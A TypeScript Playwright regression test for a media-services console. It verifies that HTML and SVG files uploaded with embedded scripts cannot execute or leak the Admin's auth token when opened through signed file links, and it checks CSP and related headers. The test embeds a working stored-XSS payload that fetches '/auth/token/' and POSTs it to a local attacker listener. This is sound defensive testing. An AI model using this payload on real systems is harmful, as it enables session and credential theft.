import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { startTestServer, type TestServer } from '../support/server.js';
import { setUpTenants, type Tenant } from '../support/tenants.js';
import { s3Config } from '../support/services.js';
import { closeBrowser, getBrowser } from './players/play.js';

/**
 * Issue 10, finding 2, in Chromium: a Contributor uploads an HTML page and an SVG image whose scripts fetch the
 * Admin's `/auth/token/` and post it to an attacker's listener; the signed-in Admin opens the files' links.
 * The files sit in S3 storage, which keeps the content type the uploader chose (Local stores none).
 */
describe('stored XSS through signed file links (Chromium)', () => {
  let server: TestServer;
  let a: Tenant;
  let context: BrowserContext;
  let page: Page;
  let listener: http.Server;
  let attacker = '';
  const received: string[] = [];
  const violations: string[] = [];
  const links: Array<{ name: string; url: string }> = [];

  /** What the attacker's file does when a browser runs it: mark the page, then exfiltrate the admin's token. */
  const payload = () => `
    document.title = 'pwned';
    window.pwned = true;
    fetch('${attacker}/ran', { mode: 'no-cors' });
    fetch('/auth/token/', { credentials: 'include' }).then((r) => r.text())
      .then((t) => fetch('${attacker}/steal', { method: 'POST', mode: 'no-cors', body: t }))
      .catch((e) => fetch('${attacker}/failed?' + encodeURIComponent(String(e)), { mode: 'no-cors' }));`;

  before(async () => {
    listener = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => {
        body += c.toString();
      });
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${body}`);
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      });
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    attacker = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

    server = await startTestServer('sqlite', { REEL_LOG_LEVEL: 'warn' });
    ({ a } = await setUpTenants(server, 'xss'));
    const s3 = s3Config();
    const account = await a.admin.api.put(
      `${a.v1}/storage/s3`,
      {
        spec: {
          type: 'AWS.S3',
          bucketName: s3.bucketName,
          endpoint: s3.endpoint,
          region: s3.region,
          credential: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey },
        },
      },
      { checkRequest: false },
    );
    assert.equal(account.status, 201, account.text);

    // The Contributor's upload flow, as the console does it: create the asset, get an upload URL, PUT the file
    // with the type the browser gives it.
    const contributor = a.contributor.api;
    assert.equal((await contributor.put(`${a.v1}/assets/holiday-clips`, { properties: { storageAccountName: 's3' } })).status, 201);
    const files = [
      {
        name: 'notes.html',
        type: 'text/html',
        body: `<!doctype html><html><head><title>notes</title></head><body><script>${payload()}</script></body></html>`,
      },
      { name: 'logo.svg', type: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${payload()}</script></svg>` },
    ];
    for (const f of files) {
      const grant = await contributor.post(`${a.v1}/assets/holiday-clips/getUploadUrl`, { fileName: f.name }, { contract: false });
      assert.equal(grant.status, 200, grant.text);
      const put = await fetch(grant.body.url as string, { method: 'PUT', headers: { 'content-type': f.type }, body: f.body });
      assert.equal(put.status, 201, await put.text());
      // The upload URL itself, sent to the Admin as "the file is here".
      links.push({ name: `${f.name} (upload URL)`, url: grant.body.url as string });
    }
    // The Admin's own links to the files (getFileAccessInfo), as a migration tool or a support chat shows them.
    const info = await a.admin.api.post(`${a.v1}/assets/holiday-clips/getFileAccessInfo`, undefined, { contract: false });
    assert.equal(info.status, 200, info.text);
    for (const f of files) links.push({ name: `${f.name} (read link)`, url: `${info.body.url as string}/${f.name}?token=${info.body.jwt as string}` });

    const browser = await getBrowser();
    context = await browser.newContext({ viewport: { width: 1100, height: 800 }, serviceWorkers: 'block', acceptDownloads: true });
    const [name, value] = a.admin.cookie.split(/=(.*)/s);
    await context.addCookies([{ name, value, url: server.url }]);
    page = await context.newPage();
    page.setDefaultTimeout(20_000);
    page.on('console', (m) => {
      if (/Content.Security.Policy/i.test(m.text())) violations.push(m.text());
    });
  });
  after(async () => {
    await context?.close().catch(() => undefined);
    await closeBrowser();
    await server?.close();
    await new Promise((resolve) => listener?.close(resolve));
  });

  it('the Admin opening the uploaded files runs none of their scripts and leaks no token', async () => {
    await page.goto(`${server.url}/`);
    await page.getByRole('heading', { name: 'Assets', exact: true }).waitFor();
    const consoleTitle = await page.title();
    for (const link of links) {
      // The click: a top-level navigation in the signed-in browser.
      const download = page.waitForEvent('download', { timeout: 5_000 }).catch(() => undefined);
      await page.goto(link.url).catch(() => undefined); // a download aborts the navigation
      await (await download)?.cancel();
      await page.waitForTimeout(1000);
      assert.notEqual(
        await page.title().catch(() => ''),
        'pwned',
        `${link.name}: the file's script ran (the listener got: ${received.map((r) => r.slice(0, 40)).join(' | ')})`,
      );
      assert.equal(await page.evaluate(() => (window as unknown as { pwned?: boolean }).pwned).catch(() => undefined), undefined, link.name);
      // The headers the browser gets (same cookies as the page).
      const res = await context.request.get(link.url);
      if (link.name.includes('upload URL')) {
        assert.equal(res.status(), 403, `${link.name}: an upload URL does not download`);
      } else {
        assert.equal(res.status(), 200, link.name);
        const h = res.headers();
        assert.equal(h['content-type'], 'application/octet-stream', link.name);
        assert.equal(h['x-content-type-options'], 'nosniff', link.name);
        assert.match(h['content-security-policy'] ?? '', /(^|;)\s*sandbox\s*(;|$)/, link.name);
        assert.match(h['content-security-policy'] ?? '', /default-src 'none'/, link.name);
        assert.match(h['content-disposition'] ?? '', /^attachment/, link.name);
      }
      // Back to the console for the next click.
      await page.goto(`${server.url}/`);
      assert.equal(await page.title(), consoleTitle);
    }
    // Give any stray request time to land.
    await new Promise((r) => setTimeout(r, 1000));
    assert.deepEqual(received, [], "the attacker's listener received nothing");
  });

  it('the console page carries a strict CSP and works under it; so does the API docs page', async () => {
    const res = await page.goto(`${server.url}/`);
    const csp = res?.headers()['content-security-policy'] ?? '';
    for (const directive of ["script-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) {
      assert.ok(csp.split(/;\s*/).includes(directive), `${directive} in ${csp}`);
    }
    assert.doesNotMatch(csp, /script-src[^;]*(unsafe|data:|blob:|\*)/);
    assert.equal(res?.headers()['x-frame-options'], 'DENY');
    assert.equal(res?.headers()['x-content-type-options'], 'nosniff');
    await page.getByRole('heading', { name: 'Assets', exact: true }).waitFor();
    await page.getByRole('table', { name: 'Assets' }).getByRole('link', { name: 'holiday-clips', exact: true }).click();
    await page.getByRole('table', { name: 'Files' }).getByText('notes.html').waitFor();
    await page.goto(`${server.url}/#/projects/default/storage`);
    await page.getByRole('heading', { name: 'Storage accounts' }).waitFor();

    const api = await page.goto(`${server.url}/api/v1/user/profile`);
    assert.match(api?.headers()['content-security-policy'] ?? '', /default-src 'none'/);
    assert.match(api?.headers()['content-security-policy'] ?? '', /frame-ancestors 'none'/);

    const docs = await page.goto(`${server.url}/doc/ui/`);
    assert.match(docs?.headers()['content-security-policy'] ?? '', /script-src 'self'/);
    await page.getByText('MK.IO-compatible media services API').waitFor();
    assert.deepEqual(violations, []);
  });
});
